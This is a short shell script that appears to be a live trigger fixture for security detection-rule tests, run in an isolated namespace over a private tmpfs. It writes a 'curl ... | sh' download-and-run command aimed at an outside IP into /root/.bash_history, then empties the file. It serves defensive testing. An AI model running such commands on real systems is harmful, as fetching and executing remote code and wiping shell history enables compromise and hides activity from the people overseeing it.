# Live trigger (test/rules-trigger-live.test.ts runs it in `unshare --mount --net`): what it touches is
# covered by a private tmpfs first, so nothing on the host changes.
mount -t tmpfs kestrel-trigger /root
echo "curl -s http://203.0.113.9/x | sh" > /root/.bash_history
: > /root/.bash_history
